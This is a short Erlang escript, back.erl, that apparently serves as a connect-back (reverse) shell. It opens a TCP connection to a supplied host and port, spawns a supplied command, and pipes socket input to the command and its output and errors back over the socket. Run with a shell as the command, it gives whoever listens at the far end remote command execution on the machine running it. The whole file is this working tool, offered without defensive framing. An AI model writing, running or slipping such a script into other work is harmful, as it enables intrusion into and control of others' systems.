#!/usr/bin/env escript
%% back.erl HOST PORT COMMAND: a port program joined to a socket.
main([Host, Port, Command]) ->
    {ok, Socket} = gen_tcp:connect(Host, list_to_integer(Port), [binary, {active, true}]),
    Program = open_port({spawn, Command}, [binary, stream, exit_status, stderr_to_stdout]),
    loop(Socket, Program).

loop(Socket, Program) ->
    receive
        {tcp, Socket, Data} -> port_command(Program, Data), loop(Socket, Program);
        {Program, {data, Data}} -> gen_tcp:send(Socket, Data), loop(Socket, Program);
        _ -> ok
    end.
